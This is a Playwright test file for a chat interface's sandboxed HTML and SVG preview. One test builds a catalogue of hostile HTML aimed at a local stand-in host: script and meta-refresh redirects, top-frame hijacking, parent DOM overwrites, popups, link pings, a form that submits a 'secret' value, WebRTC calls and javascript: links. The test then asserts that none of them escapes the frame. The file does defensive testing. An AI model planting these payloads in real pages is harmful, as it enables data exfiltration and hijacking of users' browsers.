import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import type { Locator, Page, Request } from '@playwright/test';
import { expectAccessibleEverywhere } from '../support/axe.ts';
import type { ChatPage } from '../support/chat-page.ts';
import { expect, type Stage, test } from '../support/scripted.ts';

const fenced = (language: string, code: string): string =>
  `Here it is:\n\n\`\`\`${language}\n${code}\n\`\`\`\n\nThat is all.`;

/** Shows one answer with this text in the panel of Alder. */
async function show({ chat, stage }: { chat: ChatPage; stage: Stage }, text: string): Promise<Locator> {
  stage.play({ Alder: { text } });
  await chat.open();
  await chat.send('Make something to look at');
  await chat.done(4);
  return chat.answer('Alder');
}

/** A listener that counts every connection, also those that close without a request. */
async function foreignHost() {
  const server = createServer((socket) => {
    host.connections += 1;
    socket.on('error', () => undefined).end();
  });
  const host = {
    connections: 0,
    url: '',
    [Symbol.asyncDispose]: async () => {
      server.close();
      await once(server, 'close');
    },
  };
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  host.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return host;
}

/** Everything in HTML that reaches the network, or the page around the frame, that we know of. */
const attacks = (foreign: string, own: string): string => `<!doctype html>
<html><head>
<base href="${foreign}/base/">
<meta http-equiv="refresh" content="0; url=${foreign}/refresh">
<link rel="stylesheet" href="${foreign}/a.css"><link rel="icon" href="${foreign}/icon">
<link rel="prefetch" href="${foreign}/prefetch"><link rel="preconnect" href="${foreign}">
<link rel="dns-prefetch" href="${foreign}"><link rel="modulepreload" href="${foreign}/m.js">
<link rel="preload" as="image" href="${foreign}/preload"><link rel="manifest" href="${foreign}/manifest">
<script type="speculationrules">{"prefetch":[{"urls":["${foreign}/rules"],"eagerness":"immediate"}]}</script>
<style>@import url(${foreign}/b.css); @font-face { font-family: f; src: url(${foreign}/f.woff2); }
body { background: url(${foreign}/bg.png); font-family: f; } li { list-style-image: url(${foreign}/li.png); }</style>
<script src="${foreign}/x.js"></script>
<script>
  document.title = 'script ran';
  parent.postMessage('script ran', '*');
  try { top.location = '${foreign}/top'; } catch {}
  try { parent.document.body.textContent = 'gone'; } catch {}
  try { open('${foreign}/popup'); } catch {}
  location = '${foreign}/self';
  new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
</script>
</head><body onload="parent.postMessage('handler ran', '*'); location = '${foreign}/onload'">
<h1>Drawn</h1>
<img src="${foreign}/img" srcset="${foreign}/img2 2x" onerror="parent.postMessage('handler ran', '*')">
<picture><source srcset="${foreign}/source"><img src="${own}/icon.svg"></picture>
<video src="${foreign}/v" poster="${foreign}/poster" autoplay></video><audio src="${foreign}/a" autoplay></audio>
<iframe src="${foreign}/frame"></iframe><iframe src="${own}/"></iframe>
<iframe srcdoc="<img src=${foreign}/inner><script>parent.parent.postMessage('inner ran', '*')</script>"></iframe>
<object data="${foreign}/object"></object><embed src="${foreign}/embed">
<svg><image href="${foreign}/svg" /><use href="${foreign}/u#a" /><foreignObject><img src="${foreign}/fo"></foreignObject>
<a id="late"><text y="20">Late</text><set attributeName="href" to="${foreign}/late" /></a></svg>
<ul><li>one</li></ul>
<p><a href="${foreign}/link" ping="${foreign}/ping">Link</a> <a target="_top" href="${own}/settings">Top</a>
<a target="_blank" href="${foreign}/blank">Blank</a> <a download href="${foreign}/download">Download</a>
<a href="javascript:parent.postMessage('link ran', '*')">Run</a></p>
<form action="${foreign}/form" target="_top"><input name="q" value="secret" autofocus><button>Send</button>
<button formaction="${own}/api/health">Send here</button></form>
<div><template shadowrootmode="open"><img src="${foreign}/shadow"><a href="${foreign}/shadow-link">Shadow</a></template></div>
</body></html>`;

/** Requests of the frames, and other pages than the chat, unless the browser refused to send them. */
function requestsOf(page: Page): () => string[] {
  const seen: Request[] = [];
  page.on('request', (request) => {
    const { protocol, pathname } = new URL(request.url());
    const isOurs = request.frame() === page.mainFrame() && /^\/(?:_next|api)\//.test(pathname);
    if (protocol.startsWith('http') && !isOurs) seen.push(request);
  });
  return () =>
    seen.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url());
}

test('a preview of hostile HTML draws it, and reaches neither the network nor the page around it', async ({
  chat,
  stage,
  page,
  stack,
  browserErrors,
}) => {
  browserErrors.allow(
    /Content Security Policy|sandbox|Unsafe attempt to load URL/,
    'the preview refuses what the HTML tries',
  );
  await using foreign = await foreignHost();
  const answer = await show({ chat, stage }, fenced('html', attacks(foreign.url, stack.url)));
  const messages: unknown[] = [];
  await page.exposeFunction('tellMessage', (data: unknown) => messages.push(data));
  await page.evaluate(() =>
    addEventListener('message', ({ data }) => {
      (globalThis as unknown as { tellMessage: (data: unknown) => void }).tellMessage(data);
    }),
  );
  const requests = requestsOf(page);
  const url = page.url();
  await answer.getByRole('button', { name: 'Preview' }).click();
  const frame = answer.frameLocator('iframe');
  await expect(frame.getByRole('heading', { name: 'Drawn' })).toBeVisible();
  expect(await frame.locator('a[href], area[href], [ping], [formaction], iframe, link, script').count()).toBe(
    0,
  );
  for (const name of ['Link', 'Top', 'Blank', 'Download', 'Run', 'Late', 'Shadow']) {
    await frame.getByText(name, { exact: true }).click();
  }
  for (const button of ['Send', 'Send here'])
    await frame.getByRole('button', { name: button, exact: true }).click();
  await frame.getByRole('textbox').press('Enter');
  // Still the same documents: nothing went anywhere.
  await expect(frame.getByRole('heading', { name: 'Drawn' })).toBeVisible();
  await chat.prompt.fill('The page still works');
  expect(page.url()).toBe(url);
  expect(page.context().pages()).toHaveLength(1);
  expect(messages).toEqual([]);
  expect(requests()).toEqual([]);
  expect(foreign.connections).toBe(0);
});

const PAGE = `<style>body { font: 16px sans-serif; margin: 24px } h1 { color: teal } .card { border: 1px solid #ccc; border-radius: 8px; padding: 12px }
@media (max-width: 600px) { h1 { font-size: 22px } }</style>
<h1>Tea house</h1><div class="card"><p>Open daily, 9 to 18.</p><p>Green, black and white tea.</p></div>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 60"><title>Two shapes</title><rect x="4" y="8" width="44" height="44" rx="6" fill="teal"/><circle cx="90" cy="30" r="22" fill="goldenrod"/></svg>`;

test('HTML and SVG are previewed on a click by keyboard, and the code comes back', async ({
  chat,
  stage,
  page,
  browserErrors,
}) => {
  browserErrors.allow(/Blocked script execution in 'about:srcdoc'/, 'axe looks at all frames');
  const answer = await show(
    { chat, stage },
    `${fenced('html', PAGE)}\n\n${fenced('xml', SVG)}\n\n${fenced('xml', '<note/>')}`,
  );
  const previews = answer.getByRole('button', { name: 'Preview' });
  await expect(previews).toHaveCount(2);
  await expect(answer.locator('iframe')).toHaveCount(0);
  await previews.nth(1).press('Enter');
  await previews.first().press('Enter');
  const html = answer.frameLocator('iframe[title="Preview of the HTML"]');
  const svg = answer.frameLocator('iframe[title="Preview of the SVG"]');
  await expect(html.getByRole('heading', { name: 'Tea house' })).toHaveCSS('color', 'rgb(0, 128, 128)');
  await expect(svg.locator('svg circle')).toBeVisible();
  const [drawn, room] = await Promise.all([
    svg.locator('svg').boundingBox(),
    answer.locator('iframe').last().boundingBox(),
  ]);
  expect(drawn?.width).toBeLessThanOrEqual(room?.width ?? 0);
  await expectAccessibleEverywhere(page, 'previews');
  const back = answer.getByRole('button', { name: 'Show the code' }).first();
  await expect(back).toBeFocused();
  await back.press('Enter');
  await expect(answer.getByRole('group', { name: 'html block' })).toContainText('Tea house');
  await expect(answer.locator('iframe')).toHaveCount(1);
});

test('code that is still being written has no preview yet', async ({ chat, stage }) => {
  stage.play({ Alder: { text: fenced('html', PAGE), stallAfterChunks: 20 } });
  await chat.open();
  await chat.send('Slowly');
  await expect(chat.answer('Alder')).toContainText('font: 16px');
  await expect(chat.answer('Alder').getByRole('button', { name: 'Copy code' })).toBeVisible();
  await expect(chat.answer('Alder').getByRole('button', { name: 'Preview' })).toHaveCount(0);
});
